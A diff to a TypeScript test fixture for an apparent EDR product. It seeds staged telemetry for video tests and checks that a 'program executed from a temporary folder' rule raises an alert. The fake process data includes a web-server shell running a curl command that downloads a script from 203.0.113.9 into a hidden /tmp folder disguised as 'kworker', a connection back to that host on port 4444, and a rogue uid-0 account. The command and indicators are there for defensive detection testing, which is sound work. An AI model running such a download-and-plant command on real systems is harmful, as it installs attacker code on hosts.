@@ -1,9 +1,13 @@
 // A small, fixed story for the video tests to film, made through the real paths only: customers and
 // operator actions through the API, agents enrolled through the mTLS ingress that report like the
 // reference agent. (`stockade demo seed` will tell a longer one; this is enough for every page.)
+import { createHash } from 'node:crypto';
 import type { AgentClient } from '../../src/agent/client.ts';
+import { IngressClient } from '../../src/agent/run/client.ts';
 import type { Stockade } from '../../src/serve.ts';
+import { telemetryRoot } from '../../src/telemetry/items.ts';
 import { apiCall, enrollAgent } from '../dashboard/stack.ts';
+import { accountItem, connectionItem, processItem } from '../edr/items.ts';
 import { readToken } from '../helpers/events.ts';
 
 interface Target {
@@ -108,7 +112,74 @@ export async function tellStory(t: Target): Promise<void> {
     }
     await api(t, 'PUT', '/tenants/acme/policy', { fourEyes: ['isolate-host', 'role-change'], approvalExpiryMinutes: 60 });
     await list(t, 'acme', 'approvals');
+    await telemetryStory(t, web);
   } finally {
     for (const a of agents) a.close();
+  }
+}
+
+/** The detector rule "Program Executed from a Temporary Folder", which the story's telemetry trips. */
+export const TMP_RULE = '26503e3d-5818-4939-a0c5-430a72231ccb';
+
+/**
+ * What EDR and identity show: acme-web-01 sends telemetry through the ingress as its agent does
+ * (processes, a connection, account changes; the detector raises its alerts from them), uploads a
+ * log file it was asked to collect, and the customer has a webhook channel for its SOC.
+ */
+async function telemetryStory(t: Target, web: AgentClient): Promise<void> {
+  const wire = new IngressClient(web.state);
+  try {
+    const at = '2026-11-30T04:58:12.000Z';
+    const items = [
+      processItem(812, { exe: '/usr/sbin/nginx', name: 'nginx', user: 'www-data', uid: 33, cmdline: 'nginx: worker process', startedAt: at }),
+      processItem(4417, {
+        exe: '/usr/bin/dash',
+        name: 'sh',
+        user: 'www-data',
+        uid: 33,
+        ppid: 812,
+        cmdline: 'sh -c curl -s http://203.0.113.9/x.sh -o /tmp/.x/kworker',
+        parentExe: '/usr/sbin/nginx',
+        parentName: 'nginx',
+        parentCmdline: 'nginx: worker process',
+        startedAt: at,
+      }),
+      processItem(4421, { exe: '/tmp/.x/kworker', name: 'kworker', user: 'www-data', uid: 33, ppid: 4417, cmdline: '/tmp/.x/kworker -d', startedAt: at }),
+      connectionItem(4444, { localAddress: '10.0.4.21', localPort: 51514, remoteAddress: '203.0.113.9', pid: 4421, exe: '/tmp/.x/kworker', user: 'www-data' }),
+      accountItem('toor', { uid: 0, privileged: true, details: { flags: ['extra-uid-0'], groups: [], shell: '/bin/bash' } }),
+      accountItem('alice', { uid: 1000, details: { flags: [], groups: ['sudo'], sudo: ['%sudo ALL=(ALL:ALL) ALL'] } }),
+      accountItem('alice', { change: 'group-member-added', uid: 1000, group: 'sudo', privileged: true, details: {} }),
+    ];
+    const r = await wire.telemetry({ batchId: 'story-telemetry-1', merkleRoot: telemetryRoot(items), items: items as never });
+    if (r.status !== 202) throw new Error(`telemetry: ${r.status} ${JSON.stringify(r.body)}`);
+    await web.report([
+      {
+        kind: 'finding',
+        at: now(),
+        data: { product: 'identity', title: 'Account other than root with uid 0: toor', severity: 'high', subject: 'local:toor:extra-uid-0' },
+      },
+    ]);
+    // The agent collects a file it was asked for: the bytes are uploaded, their hash sealed.
+    await api(t, 'POST', `/tenants/acme/agents/${web.agentId}/commands`, { action: 'collect-evidence', args: { path: '/var/log/auth.log' } });
+    const collect = (await web.commands()).find((c) => c.action === 'collect-evidence')!;
+    const bytes = Buffer.from('Nov 30 04:58:09 acme-web-01 sshd[1022]: Failed password for root from 203.0.113.9 port 52144 ssh2\n');
+    const sha256 = createHash('sha256').update(bytes).digest('hex');
+    const up = await wire.evidence(collect.id, '/var/log/auth.log', sha256, bytes);
+    if (up.status >= 300) throw new Error(`evidence: ${up.status} ${JSON.stringify(up.body)}`);
+    await web.result(collect.id, 'succeeded', `/var/log/auth.log: ${bytes.length} bytes, SHA-256 ${sha256}; uploaded as evidence`);
+    await api(t, 'POST', '/tenants/acme/notifications/channels', {
+      kind: 'webhook',
+      name: 'SOC webhook',
+      settings: { url: 'https://soc.example.com/stockade' },
+      routing: { minSeverity: 'high', thresholds: [1, 10, 100] },
+    });
+    // The detector works beside the API: wait (bounded) for the alert the telemetry trips.
+    const deadline = Date.now() + 60_000;
+    while (!(await list(t, 'acme', 'alerts', `&q=${TMP_RULE}`)).length) {
+      if (Date.now() > deadline) throw new Error('the detector raised no alert from the story telemetry within 60 s');
+      await new Promise((r) => setTimeout(r, 200));
+    }
+  } finally {
+    wire.close();
   }
 }
